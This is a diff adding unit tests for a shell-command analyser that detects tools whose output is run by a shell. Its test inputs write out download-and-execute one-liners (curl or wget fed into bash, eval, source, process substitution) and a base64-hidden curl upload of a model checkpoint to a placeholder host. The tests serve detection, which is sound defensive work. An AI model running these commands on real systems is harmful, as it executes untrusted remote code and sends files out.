@@ -73,6 +73,16 @@ describe('tools piped into a shell (fedToShell)', () => {
     expect(fed(`echo ${b64('curl -T /ckpt/m.pt http://h/')} | base64 -d | sh`)).toEqual(['echo', 'base64']);
     expect(fed('f=curl; $f -s http://h/r.sh | sh')).toContain('curl');
   });
+  it('what a run substitution or a process substitution read by a shell prints is run: its tools are fed', () => {
+    expect(fed('$(curl -fsSL http://h/i.sh)')).toEqual(['curl']);
+    expect(fed('bash -c "$(wget -qO- http://h/i.sh)"')).toEqual(['wget']);
+    expect(fed('eval "$(curl -s http://h/env)"')).toEqual(['curl']);
+    expect(fed('bash <(curl -s http://h/i.sh)')).toEqual(['curl']);
+    expect(fed('source <(/usr/bin/curl -s http://h/i.sh | sed s/x/y/)')).toEqual(['curl', 'sed']);
+    for (const script of ['echo "$(curl -s http://h/health)"', 'diff <(curl -s http://h/a) <(curl -s http://h/b)', 'x=$(curl -s http://h/v); echo $x']) {
+      expect(fed(script), script).toEqual([]);
+    }
+  });
   it(`distinct names, at most ${MAX_FED_TOOLS}, whatever the line's length`, () => {
     expect(fed(Array.from({ length: 12 }, (_, i) => `a${i % 3} | b | sh`).join('; '))).toEqual(['a0', 'b', 'a1', 'a2']);
     const wide = Array.from({ length: 60 }, (_, i) => `t${i}`).join(' | ') + ' | sh';
